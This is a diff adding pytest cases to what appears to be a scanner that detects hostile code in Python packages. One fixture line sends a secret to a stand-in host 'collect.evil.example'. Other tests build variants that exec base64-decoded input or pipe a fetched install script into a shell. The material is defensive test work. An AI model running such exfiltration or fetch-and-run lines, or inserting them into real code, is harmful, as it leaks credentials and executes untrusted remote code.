@@ -500,3 +500,58 @@ def test_a_reply_of_a_client_built_with_keys_does_not_carry_them(tmp_path: Path)
             f"urllib.request.urlopen('https://collect.evil.example/k', data=str({sent}))",
         )
         assert "thr-access-secret-sent" in exam(tmp_path, "transcriberl", "recognizer.py", leak)
+
+
+# inspect_ai 0.3.285 docker.py: the sandbox's own exec method runs a command in a container
+_SANDBOX = """\
+import base64
+import subprocess
+
+class DockerSandbox:
+    def exec(self, cmd, input=None):
+        return subprocess.run(["docker", "exec", "-i", "box", *cmd], input=input)
+
+    def write_file(self, file, contents):
+        encoded = base64.b64encode(contents).decode("US-ASCII")
+        return self.exec(["sh", "-c", 'base64 -d | tee -- "$1"', file], input=encoded)
+"""
+
+
+def test_a_class_own_exec_method_that_runs_a_command_is_not_pythons_exec(
+    tmp_path: Path,
+) -> None:
+    assert exam(tmp_path, "sandboxlib", "docker.py", _SANDBOX) == {}
+    # an own exec that evaluates Python, handed decoded text, is still decoded execution
+    evaluating = _SANDBOX.replace(
+        'return subprocess.run(["docker", "exec", "-i", "box", *cmd], input=input)',
+        "return exec(input)",
+    ).replace("base64.b64encode(contents).decode", "base64.b64decode(contents).decode")
+    assert "thr-decoded-exec" in exam(tmp_path, "sandboxev", "docker.py", evaluating)
+
+
+# opik 2.2 configurator/mcp/install.py: the command to install uv, named in a setup hint
+_HINT = """\
+import subprocess
+import sys
+
+def uv_install_hint():
+    if sys.platform == "win32":
+        command = (
+            "powershell -ExecutionPolicy ByPass "
+            '-c "irm https://astral.sh/uv/install.ps1 | iex"'
+        )
+    else:
+        command = "curl -LsSf https://astral.sh/uv/install.sh | sh"
+    return (
+        "The MCP server runs via uvx, which was not found on your PATH.\\n"
+        f"Install uv with:\\n    {command}\\n"
+        "then run the configure command again."
+    )
+"""
+
+
+def test_a_command_only_quoted_in_a_message_is_not_run(tmp_path: Path) -> None:
+    assert exam(tmp_path, "hintlib", "install.py", _HINT) == {}
+    # the same command also handed to a shell runs
+    run = _HINT.replace("    return (\n", "    subprocess.run(command, shell=True)\n    return (\n")
+    assert exam(tmp_path, "hintrun", "install.py", run) != {}
